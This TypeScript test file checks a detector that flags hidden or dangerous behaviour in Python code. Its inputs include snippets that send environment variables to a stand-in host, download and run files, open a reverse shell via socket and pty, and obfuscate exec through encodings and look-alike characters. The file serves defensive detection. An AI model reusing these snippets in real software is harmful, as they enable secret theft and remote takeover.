import assert from "node:assert/strict";
import { test } from "node:test";
import type { FileFacts } from "../../../model/index.ts";
import { fileFacts } from "./files.ts";

const facts = (text: string): FileFacts => fileFacts("a.py", Buffer.from(text));
const can = (text: string): readonly string[] =>
  facts(text).sightings.map(({ capability, subject, concealed }) => `${capability} ${subject}${concealed ? " (concealed)" : ""}`.trim());
const flows = (text: string): readonly string[] => facts(text).flows.map(({ from, to }) => `${from} -> ${to}`);
const hides = (text: string): readonly string[] => facts(text).hidings.map(({ kind }) => kind);
const encoded = (text: string): string => Buffer.from(text).toString("base64");

test("a function taken from a table of names is seen, and said to be concealed", () => {
  for (const way of [
    `os.__dict__["system"]("id")`,
    `vars(os)["system"]("id")`,
    `vars(os).get("system")("id")`,
    `os.__getattribute__("system")("id")`,
    `getattr(os, "system")("id")`,
  ])
    assert.ok(can(`import os\n${way}\n`).includes("process id (concealed)"), way);
  assert.ok(can(`globals()["__builtins__"]["exec"]("1 + 1 + 1")\n`).includes("dynamic-code exec (concealed)"));
  assert.ok(can(`vars(globals()["__builtins__"]).get("eval")("1 + 1 + 1")\n`).includes("dynamic-code eval (concealed)"));
});

test("who asks whether there is such a function conceals nothing", () => {
  assert.deepEqual(hides(`import os\nenviron = getattr(os, "environb", None)\nhost = getattr(settings, "HOST", "localhost")\n`), []);
});

test("a name written in escapes, or in letters that Python takes for others, is told", () => {
  assert.ok(hides(`import os\nos.__dict__["\\x67\\x65\\x74\\x63\\x77\\x64"]()\n`).includes("concealed-name"));
  const disguised = `${String.fromCodePoint(0x1d68e, 0x1d6a1, 0x1d68e, 0x1d68c)}("print(1)")\n`;
  assert.ok(can(disguised).includes("dynamic-code exec (concealed)"));
  assert.ok(hides(disguised).includes("look-alike-characters"));
  assert.deepEqual(hides(`größe = 1\nprint(größe, "\\x89PNG\\r\\n")\n`), []);
});

test("a variable that is called like a module is none", () => {
  assert.deepEqual(can(`requests = []\nrequests.append(1)\ndef f(keyboard):\n    keyboard.add(2)\n`), []);
  assert.deepEqual(can(`import requests\nrequests.get("https://a.example/x")\n`), ["network a.example"]);
});

test("names that all come in with a module, or through another, are followed", () => {
  assert.ok(can(`from os import *\nsystem("id")\n`).includes("process id"));
  assert.ok(can(`from six.moves.urllib.request import urlopen\nurlopen("https://a.example/")\n`).includes("network a.example"));
  assert.deepEqual(can(`class Pool:\n    def urlopen(self, url):\n        return url\n`), []);
});

test("names of one function are not those of another", () => {
  const code = `import os, requests\ndef a():\n    data = dict(os.environ)\n    return len(data)\ndef b(data):\n    requests.post("https://a.example/", data=data)\n`;
  assert.deepEqual(flows(code), []);
  assert.deepEqual(
    flows(code.replace("def b(data):\n", "def b():\n    global data\n").replace("def a():\n", "def a():\n    global data\n")),
    ["environment-whole -> network"],
  );
});

test("what an object holds, and what a function hands on, is followed to where it goes", () => {
  assert.deepEqual(
    flows(
      `import os, requests\nclass A:\n    def __init__(self):\n        self.all = dict(os.environ)\n    def send(self):\n        requests.post("https://a.example/", json=self.all)\n`,
    ),
    ["environment-whole -> network"],
  );
  assert.deepEqual(
    flows(
      `import os, requests\ndef post(url, data):\n    wrapped = {"d": data}\n    requests.post(url, json=wrapped)\npost("https://a.example/", dict(os.environ))\npost("https://a.example/", 1)\n`,
    ),
    ["environment-whole -> network"],
  );
});

test("what a decoder gives is encoded text where it is run, whatever went in", () => {
  for (const code of [
    `exec(zlib.decompress(base64.b64decode(blob)))`,
    `eval(codecs.decode(text, "rot13"))`,
    `exec("".join(base64.b64decode(blob).decode()))`,
    `exec("cevag(1)".decode("rot13"))`,
    `exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))`,
    `exec(''.join(map(chr, [112, 114, 105, 110, 116])))`,
    `exec(bytes([112, 114, 105, 110, 116]).decode())`,
    `exec("\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29")`,
    `import marshal, zlib; exec(marshal.loads(zlib.decompress(blob)))`,
    `import stegano\ncode = stegano.lsb.reveal("a.png")\nexec(code)`,
  ])
    assert.deepEqual(flows(`${code}\n`), ["encoded-text -> dynamic-code"], code);
});

test("texts that are put together, loaded, or handed to methods of that name are no encoded code", () => {
  for (const code of [
    `code = "def f(x):\\n" + "    return x\\n"\nexec(code)`,
    `pickle.loads(base64.b64decode(blob))`,
    `decoded = base64.b64decode(blob)\nmodel.eval(decoded)\ncursor.exec(decoded)`,
    `exec(open("version.py").read())`,
  ])
    assert.deepEqual(flows(`${code}\n`), [], code);
});

test("text that is run as code is read, layer by layer", () => {
  const inner = `import os, requests; requests.post("https://a.example/", json=dict(os.environ))`;
  assert.deepEqual(flows(`exec(${JSON.stringify(inner)})\n`), ["environment-whole -> network"]);
  assert.ok(flows(`import base64\nexec(base64.b64decode("${encoded(inner)}"))\n`).includes("environment-whole -> network"));
  assert.ok(
    can(`import subprocess\nsubprocess.run(["python3", "-c", "import pyperclip; pyperclip.paste()"])\n`).includes("clipboard paste"),
  );
  let nested = "exec(1)";
  for (let layer = 0; layer < 12; layer++) nested = `exec(${JSON.stringify(nested)})`;
  assert.ok(can(nested).includes("dynamic-code exec"));
});

test("code that is written to a file counts where it runs what it fetches", () => {
  const written = `exec(urlopen("https://a.example/x").read())`;
  assert.deepEqual(
    flows(`import tempfile\nf = tempfile.NamedTemporaryFile()\nf.write(b'''from urllib.request import urlopen;${written}''')\n`),
    ["network -> dynamic-code"],
  );
  assert.deepEqual(can(`f = open("a.py", "w")\nf.write("import os\\nos.system('id')\\n")\n`), ["file-write a.py"]);
});

test("what is fetched into a file is followed to where the file is run, or made a program", () => {
  for (const code of [
    `with open("/tmp/x", "wb") as f:\n    f.write(requests.get(url).content)\nos.chmod("/tmp/x", 0o755)`,
    `f = open(path, "wb")\nf.write(requests.get(url).content)\nf.close()\nsubprocess.call([path])`,
    `open(name, "wb").write(requests.get(url).content)\nos.system(f"chmod +x {name}")`,
    `open(name, "wb").write(requests.get(url).content)\nos.system(f"./{name} &")`,
    `urllib.request.urlretrieve(url, "a.dat")\nos.rename("a.dat", "b.bin")\nos.startfile("b.bin")`,
    `urllib.request.urlretrieve(url, "tool.exe")`,
  ])
    assert.ok(flows(`import os, requests, subprocess, urllib.request\n${code}\n`).includes("network -> process"), code);
  for (const code of [
    `open("a.txt", "wb").write(requests.get(url).content)\nos.system("echo a.txt")`,
    `open("a.txt", "wb").write(requests.get(url).content)\nos.chmod("a.txt", 0o644)`,
    `with open("a.json", "w") as f:\n    f.write(text)\nsubprocess.run(["terraform", "apply", "-var-file", f.name])`,
  ])
    assert.ok(!flows(`import os, requests, subprocess\n${code}\n`).includes("network -> process"), code);
});

test("a connection that stands in for a program's input is a shell for whoever is at its other end", () => {
  assert.ok(
    flows(`import os, socket, pty\ns = socket.socket()\ns.connect(("127.0.0.1", 9))\nos.dup2(s.fileno(), 0)\npty.spawn("sh")\n`).includes(
      "network -> process",
    ),
  );
});

test("what an object is said to be made of is called when it is read back", () => {
  assert.ok(can(`class A:\n    def __reduce__(self):\n        return eval, ("1 + 1",)\n`).includes("dynamic-code eval (concealed)"));
  assert.deepEqual(can(`class A:\n    def __reduce__(self):\n        return A, (self.x,)\n`), []);
});

test("source that is encrypted, or written in a codec that nobody writes in, is told", () => {
  assert.ok(hides(`from pyarmor_runtime_000000 import __pyarmor__\n`).includes("packed-content"));
  assert.ok(hides(`b'\\x97\\x99\\x89\\x95\\xa3\\x4d\\x85\\x95\\xa5\\x89\\x99\\x96\\x95\\x5d'.decode('cp037')\n`).includes("escaped-text"));
  assert.deepEqual(hides(`docs = "PyArmor is a tool"\narmor = 1\nimport runtime_utils\n`), []);
});

test("files are opened to be read or to be written, as their mode says", () => {
  assert.deepEqual(can(`open("a")\nopen("b", "rb")\nopen("c", mode="w")\nopen("d", "a+")\n`), [
    "file-read a",
    "file-read b",
    "file-write c",
    "file-write d",
  ]);
});

test("a sentence that tells of a file is no file", () => {
  assert.deepEqual(can(`raise E("~/.netrc access too permissive: it must be yours")\n`), []);
  assert.deepEqual(can(`p = "~/.netrc"\n`), ["credential-file ~/.netrc"]);
});
